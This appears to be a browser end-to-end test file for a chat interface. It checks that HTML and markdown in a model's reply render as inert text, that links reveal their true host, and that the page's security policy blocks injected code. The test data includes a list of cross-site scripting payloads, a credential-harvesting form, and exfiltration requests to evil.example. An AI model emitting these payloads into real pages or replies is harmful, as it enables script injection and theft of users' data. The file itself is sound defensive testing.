import { expect, test } from "./support/test.ts";

const ATTACKS = [
  `<script>window.attacked = 1</script>`,
  `<img src=x onerror="window.attacked = 1">`,
  `<svg onload="window.attacked = 1"><style>body{display:none}</style></svg>`,
  `<iframe src="javascript:parent.attacked = 1"></iframe>`,
  `[link](javascript:window.attacked=1)`,
  `[link](data:text/html,<script>opener.attacked=1</script>)`,
  `[x](https://a.example" onmouseover="window.attacked=1)`,
  "```html\"><img src=x onerror=window.attacked=1>\n<script>window.attacked = 1</script>\n```",
  `| <img src=x onerror=window.attacked=1> |\n|---|\n| [y](vbscript:attacked) |`,
  `<a href="https://evil.example" style="position:fixed;inset:0">cover</a>`,
  `<form action="https://evil.example"><input name=password></form>`,
];

test("HTML of a model is shown as the text it is, and does nothing", async ({ chat }) => {
  const reply = await chat.answered({ text: ATTACKS.join("\n\n"), rate: 0, reasoning: ATTACKS[1] });
  await expect(reply).toContainText("<script>window.attacked = 1</script>");
  await expect(reply.locator("script, img, svg:not(.icon), iframe, form, input, style, [onerror], [onmouseover], [style]")).toHaveCount(0);
  const addresses = await reply.getByRole("link").evaluateAll((links) => links.map((link) => link.getAttribute("href")));
  expect(addresses.filter((address) => !/^(https?|mailto):/.test(address ?? ""))).toEqual([]);
  expect(await chat.page.evaluate(() => "attacked" in globalThis)).toBe(false);
});

test("a picture is not loaded by itself: it is a link that names its host", async ({ chat }) => {
  const requests: string[] = [];
  chat.page.on("request", (request) => requests.push(request.url()));
  const reply = await chat.answered({ text: "![chart](https://tracker.example/p.png?u=1)" });
  const link = reply.getByRole("link", { name: "chart" });
  await expect(reply).toContainText("chart (tracker.example)");
  await expect(link).toHaveAttribute("href", "https://tracker.example/p.png?u=1");
  expect(requests.filter((url) => !url.startsWith(chat.stack.url))).toEqual([]);
});

test("a link says where it leads, and tells its target nothing", async ({ chat }) => {
  const reply = await chat.answered({
    text: "[your bank](https://evil.example/login) or [https://bank.example](https://evil.example) or https://plain.example/ or <me@mail.example>",
  });
  const links = reply.getByRole("link");
  await expect(links).toHaveText(["your bank", "https://bank.example", "https://plain.example/", "me@mail.example"]);
  await expect(reply).toContainText(
    "your bank (evil.example) or https://bank.example (evil.example) or https://plain.example/ or me@mail.example",
  );
  for (const link of await links.all()) {
    await expect(link).toHaveAttribute("rel", "noopener noreferrer nofollow");
    await expect(link).toHaveAttribute("target", "_blank");
  }
});

test("were something injected all the same, the page's policy would stop it", async ({ chat, violations }) => {
  const outcome = await chat.page.evaluate(async () => {
    const done: Record<string, boolean> = {};
    const attempt = (name: string, act: () => void) => {
      try {
        act();
        done[name] = true;
      } catch {
        done[name] = false;
      }
    };
    attempt("HTML of a string", () => (document.body.appendChild(document.createElement("div")).innerHTML = "<b>x</b>"));
    attempt("code of a string", () => setTimeout("window.attacked = 1"));
    attempt("a script element", () => {
      const script = document.createElement("script");
      script.textContent = "window.attacked = 1";
      document.body.append(script);
    });
    const image = new Image();
    image.src = "https://evil.example/?stolen";
    document.body.append(image);
    const fetched = await fetch("https://evil.example/?stolen").then(() => true, () => false);
    await new Promise((passed) => setTimeout(passed, 100));
    return { ...done, fetched, attacked: "attacked" in globalThis };
  });
  expect(outcome).toEqual({ "HTML of a string": false, "code of a string": false, "a script element": false, fetched: false, attacked: false });
  expect(violations.length).toBeGreaterThanOrEqual(4);
  violations.length = 0;
});
